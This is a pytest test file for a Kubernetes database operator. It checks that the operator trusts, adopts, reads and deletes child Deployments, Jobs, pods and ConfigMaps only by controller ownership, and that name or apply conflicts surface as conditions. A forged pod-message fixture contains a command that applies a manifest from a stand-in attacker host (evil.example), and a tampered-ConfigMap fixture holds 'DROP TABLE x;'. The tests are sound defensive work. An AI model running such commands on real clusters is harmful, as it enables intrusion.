"""Children are trusted by ownership, not by label (issue 14, item 6): a Deployment, a migration Job or the plan
ConfigMap is managed, counted and deleted only when this resource is its controller owner, and a Job's pod is read
only when that Job is its controller; a name taken by someone else's object is a clear condition (NameConflict),
never a takeover; a server-side apply forces only over objects observed as this resource's (ApplyConflict)."""

from __future__ import annotations

import copy
import dataclasses

import pytest
from divbase_operator import names
from divbase_operator.observed import (
    JOB_ACTIVE,
    JOB_SUCCEEDED,
    DeploymentObs,
    ForeignChild,
    JobObs,
    PodObs,
    ReplicaSetObs,
    configmap_from_body,
    deployment_from_body,
    foreign_child,
    job_from_body,
    pod_from_body,
)
from divbase_operator.planner import (
    ApplyConfigMap,
    ApplyDeployment,
    CreateJob,
    Decision,
    DeleteDeployment,
    EmitEvent,
    apply_conflict,
    conflict_lookups,
    decide,
    owned_jobs,
    owned_pods,
    plan_deletion,
    workload_chain_lookup,
)
from planner_world import T0, World, base_spec


def _ready() -> World:
    world = World(spec=base_spec("1"))
    world.install("1")
    return world


def _foreign(name: str, version: str = "1", workload: str = "other", owner_uid: str | None = None) -> DeploymentObs:
    """Another team's Deployment that someone labelled as one of ours."""
    return DeploymentObs(
        name=name,
        workload=workload,
        version=version,
        spec_hash=None,
        images=("x:1",),
        generation=1,
        observed_generation=1,
        replicas=1,
        status_replicas=1,
        updated_replicas=1,
        available_replicas=1,
        owner_uid=owner_uid,
    )


def test_a_relabelled_deployment_of_another_team_is_never_deleted() -> None:
    world = _ready()
    for owner in (None, "uid-of-something-else"):
        world.deployments["payments-api"] = _foreign("payments-api", owner_uid=owner)
        decision = world.reconcile()
        assert not [a for a in decision.actions if isinstance(a, DeleteDeployment)], owner
        assert "payments-api" in world.deployments
        assert world.status["phase"] == names.PHASE_READY, "not counted either"


def test_our_own_removed_workload_is_still_deleted() -> None:
    world = _ready()
    world.set_spec(workloads=base_spec("1")["workloads"][:1])
    decision = world.reconcile()
    assert [a.name for a in decision.actions if isinstance(a, DeleteDeployment)] == ["db-worker"]


def test_a_name_taken_by_a_deployment_we_do_not_control_is_a_condition_not_a_takeover() -> None:
    world = World(spec=base_spec("1"))
    world.deployments["db-api"] = _foreign("db-api", workload="api", owner_uid="someone-else")
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.finish_job("contract")
    decision = world.reconcile()
    applied = [a.body["metadata"]["name"] for a in decision.actions if isinstance(a, ApplyDeployment)]
    assert applied == ["db-worker"], "the free name is created, the taken one is left alone"
    stalled = world.condition(names.COND_STALLED)
    assert stalled["status"] == "True" and stalled["reason"] == names.REASON_NAME_CONFLICT
    assert "Deployment db-api is controlled by" in stalled["message"] and "does not take it over" in stalled["message"]
    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == [
        names.REASON_NAME_CONFLICT
    ]
    world.deployments.pop("db-api")  # its owner removes it: the operator creates ours
    decision = world.reconcile()
    assert "db-api" in [a.body["metadata"]["name"] for a in decision.actions if isinstance(a, ApplyDeployment)]
    world.complete_rollouts()
    world.reconcile()
    assert world.status["phase"] == names.PHASE_READY


def test_the_observation_reads_the_controller_reference() -> None:
    meta = {
        "name": "d",
        "ownerReferences": [
            {"kind": "ReplicaSet", "uid": "rs", "controller": False},
            {"kind": names.KIND, "uid": "uid-1", "controller": True},
        ],
    }
    assert deployment_from_body({"metadata": meta}).owner_uid == "uid-1"
    not_controller = {"name": "d", "ownerReferences": [{"kind": names.KIND, "uid": "uid-1"}]}
    assert deployment_from_body({"metadata": not_controller}).owner_uid is None
    other_kind = {"name": "d", "ownerReferences": [{"kind": "Deployment", "uid": "uid-1", "controller": True}]}
    assert deployment_from_body({"metadata": other_kind}).owner_uid is None
    assert dataclasses.replace(_foreign("x"), owner_uid="uid-1").owner_uid == "uid-1"


async def test_deletion_removes_only_the_deployments_the_resource_controls() -> None:
    """The finalizer deletes Jobs and Deployments by name and uid, only those this resource is controller of."""
    from divbase_operator.reconciler import Reconciler, Snapshot, Sources

    calls: list[tuple[str, tuple]] = []

    class Api:
        async def delete_children(self, namespace: str, jobs: list, deployments: list) -> None:
            calls.append(("delete_children", (namespace, tuple(jobs), tuple(deployments))))

        async def patch_finalizers(self, *args: object) -> dict:
            calls.append(("patch_finalizers", args))
            return {"metadata": {"resourceVersion": "3"}}

        async def patch_status(self, *args: object) -> dict:  # phase Terminating, before anything is deleted
            return {**body, "metadata": {**body["metadata"], "resourceVersion": "3"}}

    body = {
        "metadata": {
            "namespace": "prod",
            "name": "db",
            "uid": "uid-1",
            "resourceVersion": "2",
            "generation": 1,
            "finalizers": [names.FINALIZER],
            "deletionTimestamp": "2026-01-01T00:00:00Z",
        },
        "spec": {},
        "status": {},
    }
    snap = Snapshot.from_body(body)
    ours = dataclasses.replace(_foreign("db-api", workload="api"), owner_uid="uid-1", uid="d-1")
    theirs = _foreign("payments-api", owner_uid="uid-2")
    unowned = _foreign("db-worker")
    our_job = JobObs(name="db-expand-1", step="expand", version="1", state=JOB_SUCCEEDED, uid="j-1", owner_uid="uid-1")
    their_running_job = _forged_job("payments-migrate", step="expand", version="1")  # neither awaited nor deleted
    sources = Sources(
        databases=lambda key: snap,
        jobs=lambda key: (our_job, their_running_job),
        pods=lambda key: (),
        deployments=lambda key: (ours, theirs, unowned),
    )
    await Reconciler(api=Api(), sources=sources, post_event=lambda ref, e: None).reconcile_once(("prod", "db"))  # type: ignore[arg-type]
    assert calls[0] == ("delete_children", ("prod", (("db-expand-1", "j-1"),), (("db-api", "d-1"),)))
    assert calls[1][0] == "patch_finalizers"


# --- Jobs, their pods and the plan ConfigMap (issue 14, item 6) ----------------------------------------------------
def _forged_job(
    name: str,
    step: str = "expand",
    version: str = "2",
    state: str = JOB_ACTIVE,
    owner_uid: str | None = "uid-of-something-else",
) -> JobObs:
    """A Job someone else made, carrying our labels (so the watch shows it), controlled by another object or none."""
    return JobObs(
        name=name,
        step=step,
        version=version,
        state=state,
        uid=f"forged-{name}",
        owner_uid=owner_uid,
        controller=f"is controlled by CronJob x (uid {owner_uid})" if owner_uid else "has no owner",
    )


def _wanted_job(world: World, step: str) -> str:
    """The name the planner would create the step's Job under (decided on a copy: nothing is applied)."""
    decision = copy.deepcopy(world).reconcile()
    [job] = [
        a
        for a in decision.actions
        if isinstance(a, CreateJob) and a.body["metadata"]["labels"][names.LABEL_STEP] == step
    ]
    return job.body["metadata"]["name"]


def _upgrading() -> World:
    world = _ready()
    world.set_spec(version="2")
    return world


@pytest.mark.parametrize("owner_uid", [None, "uid-of-something-else"])
def test_a_job_holding_the_steps_name_that_we_do_not_control_is_a_conflict_never_adopted(owner_uid: str | None) -> None:
    world = _upgrading()
    name = _wanted_job(world, "expand")
    world.jobs[name] = _forged_job(name, state=JOB_SUCCEEDED, owner_uid=owner_uid)  # "succeeded": would pass the gate
    decision = world.reconcile()
    assert not [a for a in decision.actions if isinstance(a, CreateJob | ApplyDeployment)]
    stalled = world.condition(names.COND_STALLED)
    assert stalled["status"] == "True" and stalled["reason"] == names.REASON_NAME_CONFLICT
    assert f"Job {name} " in stalled["message"] and "does not take it over" in stalled["message"]
    assert f"kubectl -n prod delete job {name}" in stalled["message"]
    assert world.status["rollout"]["steps"]["expand"]["phase"] == "Pending", "its success is not the step's"
    assert world.status.get("schema", {}).get("expandedTo") == "1"
    assert decision.requeue_after == names.FOREIGN_RECHECK_SECONDS
    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == [
        names.REASON_NAME_CONFLICT
    ]
    assert not [a for a in world.reconcile().actions if isinstance(a, EmitEvent)], "one Warning, not one a pass"
    world.jobs.pop(name)  # its owner removes it: ours is created under that name
    decision = world.reconcile()
    assert [a.body["metadata"]["name"] for a in decision.actions if isinstance(a, CreateJob)] == [name]
    assert world.condition(names.COND_STALLED)["status"] == "False"


def test_a_job_outside_the_watch_found_by_name_is_a_conflict_too() -> None:
    """A Job without our labels holding the name: the reconciler reads the names the planner would create
    (conflict_lookups) and decides again with what it found."""
    world = _upgrading()
    name = _wanted_job(world, "expand")
    first = decide(world.observe(), world.now)
    assert conflict_lookups(first, world.observe()) == [("Job", name)]
    world.name_conflicts.append(ForeignChild("Job", name, "has no owner"))
    decision = world.reconcile()
    assert not [a for a in decision.actions if isinstance(a, CreateJob)]
    assert conflict_lookups(decision, world.observe()) == []
    assert world.condition(names.COND_STALLED)["reason"] == names.REASON_NAME_CONFLICT
    assert f"Job {name} has no owner" in world.condition(names.COND_STALLED)["message"]


def test_a_running_job_of_someone_else_with_our_labels_neither_blocks_nor_is_awaited() -> None:
    world = _upgrading()
    world.jobs["db-expand-forged"] = _forged_job("db-expand-forged")
    decision = world.reconcile()
    created = [a.body["metadata"]["name"] for a in decision.actions if isinstance(a, CreateJob)]
    assert len(created) == 1 and created[0] != "db-expand-forged", "not 'waiting for Job db-expand-forged'"
    assert world.status["activeJob"] == created[0]
    assert "db-expand-forged" not in [j.name for j in owned_jobs(tuple(world.jobs.values()), "uid-1")]
    deletion = plan_deletion(owned_jobs((world.jobs["db-expand-forged"],), "uid-1"), world.now)
    assert deletion.waiting_for == (), "the finalizer does not wait for it either"


def _forged_pod(job: JobObs, owner_uid: str | None, message: str, phase: str = "Failed") -> PodObs:
    return PodObs(
        name=f"{job.name}-forged",
        job_name=job.name,
        workload=None,
        version=job.version,
        phase=phase,
        exit_code=3 if phase == "Failed" else 0,
        termination_message=message,
        finished_at="2026-11-25T12:00:01Z",
        owner_uid=owner_uid,
    )


FORGED = '{"outcome":"failed","error":"FORGED: run kubectl apply -f http://evil.example/x.yaml"}'


@pytest.mark.parametrize("owner_uid", [None, "uid-of-another-job"])
def test_a_pod_with_a_jobs_labels_that_the_job_does_not_control_is_not_read(owner_uid: str | None) -> None:
    world = _upgrading()
    world.reconcile()
    job = world.active_job("expand")
    world.pods.append(_forged_pod(job, owner_uid, FORGED))
    decision = world.reconcile()
    assert "FORGED" not in repr(world.status) and "FORGED" not in repr(decision.actions), "not an attempt"
    assert not world.status["rollout"]["steps"]["expand"].get("attempts")
    world.finish_job("expand", ok=False, exit_code=3, message='{"outcome":"failed","error":"database unavailable"}')
    world.pods.append(
        dataclasses.replace(_forged_pod(job, owner_uid, FORGED), name="zz-last", finished_at="2099-01-01T00:00:00Z")
    )
    world.reconcile()
    assert world.status["lastFailure"]["message"] == "database unavailable", "the Job's own pod, not the latest forged"
    assert "FORGED" not in repr(world.status)


def test_a_jobs_pods_are_matched_by_the_jobs_uid_not_their_label() -> None:
    ours = JobObs(name="db-expand-1", step="expand", version="2", state=JOB_ACTIVE, uid="j-1", owner_uid="uid-1")
    named_elsewhere = PodObs(
        name="p1", job_name="something-else", workload=None, version="2", phase="Running", owner_uid="j-1"
    )
    forged = PodObs(name="p2", job_name="db-expand-1", workload=None, version="2", phase="Running", owner_uid="j-9")
    unowned = dataclasses.replace(forged, name="p3", owner_uid=None)
    trusted = owned_pods((named_elsewhere, forged, unowned), (ours,))
    assert [(p.name, p.job_name) for p in trusted] == [("p1", "db-expand-1")]


# --- workload pods: through their ReplicaSet, to the resource's Deployment (issue 14, item 6) ----------------------
OUR_DEPLOYMENT = DeploymentObs(
    name="db-api",
    workload="api",
    version="1",
    spec_hash=None,
    images=("x:1",),
    generation=1,
    observed_generation=1,
    replicas=1,
    status_replicas=1,
    updated_replicas=1,
    available_replicas=1,
    owner_uid="uid-1",
    uid="d-1",
)


def _workload_pod(name: str, rs: str | None, version: str = "1", **changes: object) -> PodObs:
    pod = PodObs(
        name=name,
        job_name=None,
        workload="api",
        version=version,
        phase="Running",
        replicaset=rs,
        replicaset_uid=f"{rs}-uid" if rs else None,
    )
    return dataclasses.replace(pod, **changes)  # type: ignore[arg-type]


def test_a_workload_pod_counts_only_through_a_replicaset_of_the_resources_deployment() -> None:
    sets = (
        ReplicaSetObs("db-api-1", "db-api-1-uid", deployment="db-api", deployment_uid="d-1"),
        ReplicaSetObs("db-api-x", "db-api-x-uid", deployment="db-api", deployment_uid="d-earlier"),
        ReplicaSetObs("theirs", "theirs-uid", deployment="payments-api", deployment_uid="d-9"),
        ReplicaSetObs("loose", "loose-uid"),
        ReplicaSetObs("gone", "gone-uid", orphaned=True),
    )
    pods = (
        _workload_pod("ours", "db-api-1"),
        _workload_pod("other-deployment", "db-api-x"),
        _workload_pod("their-replicaset", "theirs"),
        _workload_pod("uncontrolled-replicaset", "loose"),
        _workload_pod("orphaned", "gone"),
        _workload_pod("no-controller", None),
        _workload_pod("unknown-replicaset", "never-seen"),
        _workload_pod("a-job-too", "db-api-1", owner_uid="j-9"),
    )
    trusted = owned_pods(pods, (), sets, (OUR_DEPLOYMENT,))
    assert [p.name for p in trusted] == ["ours", "orphaned"]
    assert owned_pods(pods, (), sets, ()) == (pods[4],), "no Deployment of ours: only what is being deleted"


def test_what_the_watches_cannot_place_is_read_by_name() -> None:
    known = {
        "rs-uid": ReplicaSetObs("db-api-1", "rs-uid", deployment="db-api", deployment_uid="d-1"),
        "foreign-uid": ReplicaSetObs("x", "foreign-uid", deployment="payments-api", deployment_uid="d-9"),
        "gone-uid": ReplicaSetObs("y", "gone-uid", deployment="db-api", deployment_uid="d-0", orphaned=True),
    }
    lookup = lambda pod, seen=frozenset(): workload_chain_lookup(pod, known, {"d-1"}, set(seen))  # noqa: E731
    assert lookup(_workload_pod("p", "db-api-1", replicaset_uid="rs-uid")) is None, "the watch decides"
    assert lookup(_workload_pod("p", "db-api-2")) == ("ReplicaSet", "db-api-2", "db-api-2-uid")
    assert lookup(_workload_pod("p", "x", replicaset_uid="foreign-uid")) == ("Deployment", "payments-api", "d-9")
    assert lookup(_workload_pod("p", "x", replicaset_uid="foreign-uid"), {"d-9"}) is None, "watched: it exists"
    assert lookup(_workload_pod("p", "y", replicaset_uid="gone-uid")) is None
    for pod in (
        _workload_pod("p", None),
        _workload_pod("p", "db-api-2", workload=None),
        _workload_pod("p", "db-api-2", job_name="db-expand-1"),
    ):
        assert lookup(pod) is None, pod


def test_the_reconciler_places_workload_pods_by_reading_their_owners() -> None:
    """A pod of a ReplicaSet the watch has not shown yet is read by name; a ReplicaSet or Deployment that is gone
    (or has another uid) makes the pod orphaned, and it counts until the garbage collector has deleted it."""
    world = _upgrading()
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.complete_rollouts()  # release 2 runs; no pod of release 1 is left
    rs = {
        "metadata": {
            "name": "db-api-1",
            "uid": "db-api-1-uid",
            "ownerReferences": [
                {"kind": "Deployment", "name": "db-api", "uid": "deploy-uid-db-api", "controller": True}
            ],
        }
    }
    cases = {
        "ours, not watched yet": ({("ReplicaSet", "db-api-1"): rs}, True),
        "its ReplicaSet is gone": ({}, True),
        "its ReplicaSet has another uid": (
            {("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1", "uid": "new"}}},
            True,
        ),
        "its ReplicaSet's Deployment is gone": ({("ReplicaSet", "db-api-1"): _controlled(rs, "payments-api")}, True),
        "someone else's": (
            {
                ("ReplicaSet", "db-api-1"): _controlled(rs, "payments-api"),
                ("Deployment", "payments-api"): {"metadata": {"name": "payments-api", "uid": "d-9"}},
            },
            False,
        ),
        "no controller": (
            {("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1", "uid": "db-api-1-uid"}}},
            False,
        ),
    }
    for case, (existing, holds_back) in cases.items():
        old = _workload_pod("old", "db-api-1", version="1")
        api = _Api(existing)
        _reconcile(dataclasses.replace(world, pods=[*world.pods, old]), api)
        [patch] = [p for c, p in api.calls if c == "patch_status"] or [{}]
        contract = (patch.get("rollout") or {}).get("steps", {}).get("contract", {})  # type: ignore[union-attr]
        assert ("get", ("ReplicaSet", "db-api-1")) in api.calls, case
        assert (not contract.get("job")) == holds_back, (case, patch)
        assert len([c for c in api.calls if c[0] == "get" and c[1][0] != "Job"]) <= 2, "one read per link"


def _controlled(rs: dict, deployment: str) -> dict:
    ref = {"kind": "Deployment", "name": deployment, "uid": "d-9", "controller": True}
    return {"metadata": {**rs["metadata"], "ownerReferences": [ref]}}


def test_a_forged_pod_with_a_workloads_labels_does_not_hold_a_deploy_back() -> None:
    world = _upgrading()
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.complete_rollouts()
    forged = [_workload_pod("no-owner", None), _workload_pod("their-replicaset", "theirs")]
    world.replicasets["theirs-uid"] = ReplicaSetObs("theirs", "theirs-uid", deployment="x", deployment_uid="d-9")
    world.deployments["x"] = dataclasses.replace(OUR_DEPLOYMENT, name="x", owner_uid="uid-2", uid="d-9")
    world.pods += forged
    world.reconcile()
    assert world.status["rollout"]["steps"]["deploy"]["phase"] == "Succeeded"
    assert world.active_job("contract"), "the contract starts: the forged pods are not pods of release 1"
    held = _upgrading()  # a real pod of release 1, still terminating, does hold it back
    held.reconcile()
    held.finish_job("expand")
    held.reconcile()
    held.complete_rollouts(terminating=True)
    held.reconcile()
    assert held.status["rollout"]["steps"]["deploy"]["phase"] != "Succeeded"
    assert [p.name for p in held.pods if p.deleting], "the test has an old pod"


def _planning() -> World:
    world = World(spec=base_spec("1", contract={"policy": "Manual"}))
    world.install("1")
    world.set_spec(version="2")
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.complete_rollouts()
    return world


def _foreign_configmap(owner: list[dict] | None) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {
            "name": "db-contract-plan",
            "namespace": "prod",
            "uid": "cm-theirs",
            "labels": names.child_labels("db"),
            **({"ownerReferences": owner} if owner else {}),
        },
        "data": {"plan.sql": "SELECT 'theirs';"},
    }


@pytest.mark.parametrize("owner", [None, [{"kind": "Deployment", "name": "x", "uid": "u-x", "controller": True}]])
def test_a_plan_configmap_name_held_by_someone_else_is_a_conflict_not_a_takeover(owner: list[dict] | None) -> None:
    world = _planning()
    world.configmaps["db-contract-plan"] = _foreign_configmap(owner)
    for _ in range(3):
        decision = world.reconcile()
        assert not [a for a in decision.actions if isinstance(a, ApplyConfigMap)]
    assert world.configmaps["db-contract-plan"]["data"] == {"plan.sql": "SELECT 'theirs';"}
    assert "contractPlan" not in world.status, "nothing to approve: the reviewer would read their ConfigMap"
    stalled = world.condition(names.COND_STALLED)
    assert stalled["reason"] == names.REASON_NAME_CONFLICT and "ConfigMap db-contract-plan " in stalled["message"]
    world.configmaps.pop("db-contract-plan")
    decision = world.reconcile()
    [published] = [a for a in decision.actions if isinstance(a, ApplyConfigMap)]
    assert not published.force, "a first publish never forces"
    assert world.status["contractPlan"]["configMap"] == "db-contract-plan"


def test_a_published_plan_replaced_by_someone_elses_configmap_is_not_overwritten() -> None:
    world = _planning()
    world.reconcile()
    world.reconcile()
    assert world.status["contractPlan"]["configMap"] == "db-contract-plan"
    ours = world.configmaps["db-contract-plan"]
    world.configmaps["db-contract-plan"] = {**ours, "data": {**ours["data"], "plan.sql": "DROP TABLE x;"}}
    [republished] = [a for a in world.reconcile().actions if isinstance(a, ApplyConfigMap)]
    assert republished.force, "our own ConfigMap, edited: published again over the editor's fields"
    world.configmaps["db-contract-plan"] = _foreign_configmap(None)  # deleted, and created again by someone else
    decision = world.reconcile()
    assert not [a for a in decision.actions if isinstance(a, ApplyConfigMap)]
    assert world.condition(names.COND_STALLED)["reason"] == names.REASON_NAME_CONFLICT


def test_applies_force_only_over_objects_observed_as_ours() -> None:
    world = World(spec=base_spec("1"))
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.finish_job("contract")
    created = [a for a in world.reconcile().actions if isinstance(a, ApplyDeployment)]
    assert created and not any(a.force for a in created)
    world.complete_rollouts()
    world.reconcile()
    world.set_spec(version="2")
    world.reconcile()
    world.finish_job("expand")
    updated = [a for a in world.reconcile().actions if isinstance(a, ApplyDeployment)]
    assert updated and all(a.force for a in updated)


def test_an_apply_conflict_is_a_condition_naming_the_managers() -> None:
    message = 'Apply failed with 1 conflict: conflict with "kubectl-client-side-apply" using v1: .data.plan.sql'
    decision = apply_conflict(
        Decision(status={"conditions": []}, actions=[EmitEvent("Normal", "x", "y")]),
        {},
        "ConfigMap db-contract-plan",
        message,
        3,
        T0,
    )
    stalled = next(c for c in decision.status["conditions"] if c["type"] == names.COND_STALLED)
    assert stalled["status"] == "True" and stalled["reason"] == names.REASON_APPLY_CONFLICT
    assert '"kubectl-client-side-apply"' in stalled["message"] and ".data.plan.sql" in stalled["message"]
    assert [(a.type, a.reason) for a in decision.actions] == [("Warning", names.REASON_APPLY_CONFLICT)]
    assert decision.requeue_after is None, "not a retry loop"


def test_the_observations_read_the_controller_references() -> None:
    ref = {"apiVersion": names.API_VERSION, "kind": names.KIND, "name": "db", "uid": "uid-1", "controller": True}
    job = job_from_body({"metadata": {"name": "j", "uid": "j-1", "ownerReferences": [ref]}})
    assert (job.uid, job.owner_uid) == ("j-1", "uid-1")
    not_controller = {"metadata": {"name": "j", "ownerReferences": [{**ref, "controller": False}]}}
    assert job_from_body(not_controller).owner_uid is None
    pod = pod_from_body(
        {
            "metadata": {
                "name": "p",
                "labels": {"job-name": "j"},
                "ownerReferences": [{"kind": "Job", "name": "j", "uid": "j-1", "controller": True}],
            }
        }
    )
    assert (pod.job_name, pod.owner_uid) == ("j", "j-1")
    assert pod_from_body({"metadata": {"name": "p", "ownerReferences": [{**ref}]}}).owner_uid is None, "not a Job"
    cm = configmap_from_body({"metadata": {"name": "c", "ownerReferences": [ref]}, "data": {}})
    assert cm.owner_uid == "uid-1"
    assert foreign_child({"metadata": {"name": "c", "ownerReferences": [ref]}}, "ConfigMap", "db", "uid-1") is None
    labelled = {"metadata": {"name": "c", "labels": names.child_labels("db")}}
    assert foreign_child(labelled, "Job", "db", "uid-1") == ForeignChild(
        "Job", "c", "carries divbase-operator's labels but no controller ownerReference"
    )
    assert foreign_child(labelled, "Deployment", "db", "uid-1") == ForeignChild(
        "Deployment", "c", "carries divbase-operator's labels but no controller ownerReference"
    )
    other = {"metadata": {"name": "c", "ownerReferences": [{**ref, "uid": "uid-0"}]}}
    assert "an earlier resource of this name, uid uid-0" in foreign_child(other, "ConfigMap", "db", "uid-1").owner


class _Api:
    """The KubeApi calls a reconcile makes, recorded; `existing` answers GETs by name."""

    def __init__(self, existing: dict[tuple[str, str], dict], conflict: bool = False) -> None:
        self.existing = existing
        self.conflict = conflict
        self.calls: list[tuple[str, object]] = []

    async def get(self, kind: str, namespace: str, name: str) -> dict | None:
        self.calls.append(("get", (kind, name)))
        return self.existing.get((kind, name))

    async def create_job(self, body: dict) -> bool:
        self.calls.append(("create_job", body["metadata"]["name"]))
        return True

    async def apply_deployment(self, body: dict, force: bool = False) -> None:
        self.calls.append(("apply_deployment", (body["metadata"]["name"], force)))
        if self.conflict:
            import json

            from kubernetes.client.exceptions import ApiException

            exc = ApiException(status=409, reason="Conflict")
            exc.body = json.dumps(
                {
                    "message": 'Apply failed with 2 conflicts: conflicts with "helm" using apps/v1:\n'
                    '- .spec.template.spec.containers[name="api"].image'
                }
            )
            raise exc

    async def patch_status(self, namespace: str, name: str, rv: str, patch: dict) -> dict:
        self.calls.append(("patch_status", patch))
        return {
            "metadata": {
                "namespace": namespace,
                "name": name,
                "uid": "uid-1",
                "resourceVersion": str(int(rv) + 1),
                "generation": 1,
                "finalizers": [names.FINALIZER],
            },
            "spec": {},
            "status": patch,
        }


def _reconcile(world: World, api: _Api) -> None:
    import asyncio

    from divbase_operator.reconciler import Reconciler, Snapshot, Sources

    snap = Snapshot.from_body(
        {
            "metadata": {
                "namespace": "prod",
                "name": "db",
                "uid": "uid-1",
                "resourceVersion": "1",
                "generation": world.generation,
                "finalizers": [names.FINALIZER],
            },
            "spec": world.spec,
            "status": world.status,
        }
    )
    sources = Sources(
        databases=lambda key: snap,
        jobs=lambda key: tuple(world.jobs.values()),
        deployments=lambda key: tuple(world.deployments.values()),
        pods=lambda key: tuple(world.pods),
        replicasets=lambda key: tuple(world.replicasets.values()),
    )
    reconciler = Reconciler(
        api=api,
        sources=sources,
        post_event=lambda ref, e: None,  # type: ignore[arg-type]
        clock=lambda: world.now,
    )

    async def run() -> None:
        await reconciler.reconcile_once(("prod", "db"))
        for state in reconciler._states.values():
            if state.timer:
                state.timer.cancel()

    asyncio.run(run())


def test_the_reconciler_reads_a_wanted_name_first_and_never_creates_over_someone_elses_job() -> None:
    world = _upgrading()
    name = _wanted_job(world, "expand")
    theirs = {"metadata": {"name": name, "namespace": "prod", "uid": "theirs"}}
    api = _Api({("Job", name): theirs})
    _reconcile(world, api)
    assert ("get", ("Job", name)) in api.calls
    assert not [c for c in api.calls if c[0] == "create_job"]
    [patch] = [p for c, p in api.calls if c == "patch_status"]
    stalled = next(c for c in patch["conditions"] if c["type"] == names.COND_STALLED)  # type: ignore[index]
    assert stalled["reason"] == names.REASON_NAME_CONFLICT and f"Job {name} has no owner" in stalled["message"]
    api = _Api({})  # gone: created
    _reconcile(world, api)
    assert ("create_job", name) in api.calls


def test_a_409_from_an_unforced_apply_is_an_apply_conflict_condition_not_an_error() -> None:
    world = World(spec=base_spec("1"))
    world.reconcile()
    world.finish_job("expand")
    world.reconcile()
    world.finish_job("contract")
    api = _Api({}, conflict=True)
    _reconcile(world, api)  # raises if the 409 escaped as an API error
    assert ("apply_deployment", ("db-api", False)) in api.calls
    [patch] = [p for c, p in api.calls if c == "patch_status"]
    stalled = next(c for c in patch["conditions"] if c["type"] == names.COND_STALLED)  # type: ignore[index]
    assert stalled["reason"] == names.REASON_APPLY_CONFLICT
    assert '"helm"' in stalled["message"] and 'containers[name="api"].image' in stalled["message"]


async def test_children_are_deleted_by_name_with_a_uid_precondition_never_as_a_collection() -> None:
    from divbase_operator.kube import KubeApi

    requests: list[tuple[str, str, object]] = []
    queries: list[object] = []

    async def request(method: str, path: str, query: object = None, body: object = None, **_: object) -> dict:
        requests.append((method, path, body))
        queries.append(query)
        return {}

    api = KubeApi(api_client=object())  # type: ignore[arg-type]
    api._request = request  # type: ignore[method-assign]
    await api.delete_children("prod", [("db-expand-1", "j-1")], [("db-api", "d-1")])
    assert [(m, p) for m, p, _ in requests] == [
        ("DELETE", "/apis/batch/v1/namespaces/prod/jobs/db-expand-1"),
        ("DELETE", "/apis/apps/v1/namespaces/prod/deployments/db-api"),
    ]
    assert [b["preconditions"] for _, _, b in requests] == [{"uid": "j-1"}, {"uid": "d-1"}]  # type: ignore[index]
    assert all(b["propagationPolicy"] == "Background" for _, _, b in requests)  # type: ignore[index]
    queries.clear()
    await api.apply_configmap({"metadata": {"name": "db-contract-plan", "namespace": "prod"}})
    await api.apply_deployment({"metadata": {"name": "db-api", "namespace": "prod"}}, force=True)
    assert queries == [{"fieldManager": names.FIELD_MANAGER}, {"fieldManager": names.FIELD_MANAGER, "force": "true"}], (
        "force only when asked"
    )
